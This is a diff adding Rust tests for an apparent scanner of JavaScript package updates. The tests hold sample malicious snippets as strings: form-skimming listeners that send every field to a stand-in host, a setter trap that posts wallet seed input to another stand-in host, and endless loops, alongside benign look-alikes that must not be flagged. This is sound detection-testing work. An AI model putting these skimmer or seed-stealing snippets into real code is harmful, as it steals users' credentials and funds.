@@ -198,3 +198,85 @@ fn a_fixed_blind_copy_names_its_host_as_a_new_destination() {
         .collect();
     assert_eq!(kinds.len(), 2, "{:#?}", delta.changes);
 }
+
+#[test]
+fn forms_that_are_listened_to_and_sent_elsewhere_are_held_and_blocked_when_new() {
+    let old = "exports.draw=(node,text)=>{node.textContent=text}";
+    for listener in [
+        "document.addEventListener('submit',(e)=>{const f={};for(const el of e.target.elements)f[el.name]=el.value;navigator.sendBeacon('https://in.elsewhere.example/f',JSON.stringify(f))},true)",
+        "document.addEventListener('change',function(e){fetch('https://in.elsewhere.example/f',{method:'POST',body:e.target.name+'='+e.target.value})})",
+        "window.addEventListener('submit',(e)=>{const r=new XMLHttpRequest();r.open('POST','https://in.elsewhere.example/f');r.send(new FormData(e.target))})",
+    ] {
+        let new = format!("{old};if(typeof window!=='undefined'){{{listener}}}");
+        flagged(&imported(&new), "FLO-01", Quarantine);
+        let found = imported(&new);
+        let chain = found.chains.iter().find(|c| c.id == "FLO-01").expect("a chain");
+        assert!(chain.steps.len() >= 2, "{:#?}", chain.steps);
+        assert!(change(old, &new) >= Some(Quarantine));
+    }
+    for honest in [
+        "document.addEventListener('submit',(e)=>{for(const el of e.target.elements)if(!el.value)e.preventDefault()})",
+        "document.addEventListener('submit',(e)=>{fetch(e.target.action,{method:'POST',body:new FormData(e.target)})})",
+        "document.addEventListener('click',(e)=>{navigator.sendBeacon('https://count.elsewhere.example/c',e.target.id)})",
+        "document.addEventListener('keydown',(e)=>{if(e.key==='Escape')fetch('https://count.elsewhere.example/close')})",
+    ] {
+        let code = format!("{old};{honest}");
+        assert!(level(&imported(&code), "FLO-01") < Some(Quarantine), "{honest}");
+    }
+}
+
+#[test]
+fn a_setter_that_waits_for_another_programs_keys_is_held_and_blocked_when_new() {
+    let old = "exports.notify=(text)=>console.log(text)";
+    let trap = |name: &str| {
+        format!(
+            "{old};var g=global.window||global,t=null;Object.defineProperty(g,'{name}',{{configurable:true,get:()=>t,set:f=>{{t=function(i){{const q=require('https').request({{hostname:'check.elsewhere.example',path:'/v',method:'POST'}});q.end(JSON.stringify({{v:i}}));return f.apply(this,arguments)}}}}}})"
+        )
+    };
+    let new = trap("confirmSeed");
+    flagged(&imported(&new), "FLO-10", Quarantine);
+    assert!(change(old, &new) >= Some(Quarantine));
+    assert_eq!(level(&imported(&trap("onResize")), "FLO-10"), None);
+    assert_eq!(
+        level(
+            &imported(
+                "let t;Object.defineProperty(globalThis,'walletTheme',{get:()=>t,set:(v)=>{t=v;document.body.className=v}})"
+            ),
+            "FLO-10"
+        ),
+        None
+    );
+}
+
+#[test]
+fn a_loop_without_an_end_is_told_where_loading_runs_into_it() {
+    for stuck in [
+        "for(let i=666;i<Infinity;i++){if(i%333)continue;console.log('testing')}",
+        "while(true){}",
+        "(function(){do{var x=1}while(!![])})()",
+        "const spin=()=>{for(;;){switch(1){case 1:break}}};spin()",
+    ] {
+        let found = imported(&format!("exports.a=1;{stuck}"));
+        flagged(&found, "EXE-14", Warn);
+        clean(&found);
+    }
+    for ends in [
+        "for(let i=0;i<10;i++)console.log(i)",
+        "for(;;){if(exports.a++>9)break}",
+        "exports.go=()=>{while(true){}}",
+        "if(process.argv.includes('--spin'))while(true){}",
+        "process.on('message',()=>{while(true){}})",
+        "(async()=>{while(true)await exports.step()})()",
+        "function*ids(){let i=0;while(true)yield i++}exports.ids=ids()",
+        "while(true){Atomics.wait(exports.flag,0,0)}",
+        "out:for(;;){for(;;){break out}}",
+        "(()=>{for(;;){if(exports.a)return}})()",
+        "while(true){try{exports.step()}finally{process.exit(0)}}",
+    ] {
+        assert_eq!(
+            level(&imported(&format!("exports.a=1;{ends}")), "EXE-14"),
+            None,
+            "{ends}"
+        );
+    }
+}
